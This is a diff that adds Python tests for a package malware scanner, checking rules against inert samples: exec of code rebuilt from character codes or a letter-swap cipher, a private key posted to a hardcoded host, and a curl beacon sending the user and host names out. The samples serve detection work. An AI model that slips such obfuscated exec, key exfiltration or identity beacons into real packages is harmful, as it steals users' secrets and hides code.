@@ -1,0 +1,96 @@
+"""Behaviour rules added for quiet theft and character-level code building (inert samples:
+hosts are example.invalid, payloads are print calls; nothing here is run)."""
+
+from __future__ import annotations
+
+from bastion.scanning import scan_bytes
+
+from .helpers import PLAIN_SETUP, sdist
+
+
+def scan(files: dict[str, str | bytes]):
+    return scan_bytes(sdist(files), "demo-1.0.tar.gz")
+
+
+def rules(result) -> dict[str, str]:
+    out: dict[str, str] = {}
+    for f in result.findings:
+        out.setdefault(f.rule, str(f.severity))
+    return out
+
+
+def test_exec_of_code_rebuilt_from_char_codes_in_setup() -> None:
+    codes = ",".join(str(ord(c)) for c in "print('hello from an inert test')\n")
+    r = scan({"setup.py": f'exec("".join(map(chr, [{codes}])))\n' + PLAIN_SETUP})
+    assert rules(r).get("exec-obfuscated-code") == "high"
+    assert r.verdict == "malicious"
+
+
+def test_exec_of_substitution_cipher_in_library() -> None:
+    import string
+
+    letters = string.ascii_letters
+    table = dict(zip(letters, letters[::-1], strict=True))
+    hidden = "".join(table.get(c, c) for c in "print('an inert message for the scanner test')")
+    lib = (
+        "import string\nL = string.ascii_letters\nR = L[::-1]\n"
+        "def load():\n"
+        f"    exec(''.join([R[L.index(c)] if c in R else c for c in {hidden!r}]))\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/cache.py": lib}
+    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})  # not a "small" package
+    r = scan(files)
+    assert rules(r).get("exec-obfuscated-code") == "high"
+
+
+def test_private_key_parameter_posted_to_hardcoded_host() -> None:
+    lib = (
+        "import requests\n\n"
+        "def balance(private_key):\n"
+        "    data = [{'private_key': private_key}]\n"
+        "    r = requests.post('https://wallet-api.example.invalid/balance', json=data)\n"
+        "    return r.json()\n"
+    )
+    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/api.py": lib})
+    assert rules(r).get("key-exfiltration") == "high"
+    assert r.verdict == "malicious"
+
+
+def test_private_key_used_locally_or_url_from_caller_is_not_theft() -> None:
+    lib = (
+        "import requests\n\n"
+        "def send(private_key, node_url, tx):\n"
+        "    signed = sign(tx, private_key)\n"
+        "    return requests.post(node_url, json={'tx': signed})\n\n"
+        "def login(password):\n"
+        "    return requests.post('https://api.example.invalid/login', json={'p': password})\n\n"
+        "def sign(tx, key):\n"
+        "    return tx\n"
+    )
+    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/api.py": lib})
+    assert "key-exfiltration" not in rules(r)
+    assert r.verdict != "malicious"
+
+
+def test_shell_beacon_with_user_and_host_names() -> None:
+    mod = (
+        "import subprocess\n\n"
+        "def test_callback():\n"
+        "    subprocess.run(['curl', '-s', 'https://collect.example.invalid/?u=$(whoami)"
+        "&h=$(hostname)'])\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/test_callback.py": mod}
+    r = scan(files)
+    assert rules(r).get("identity-beacon") == "high"
+    assert r.verdict == "malicious"
+
+
+def test_installer_naming_the_platform_is_not_a_beacon() -> None:
+    mod = (
+        "import subprocess\n\n"
+        "def fetch():\n"
+        "    subprocess.run('curl -sL https://dl.example.invalid/tool-$(uname -s).tgz | tar xz',"
+        " shell=True)\n"
+    )
+    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/tool.py": mod})
+    assert "identity-beacon" not in rules(r)
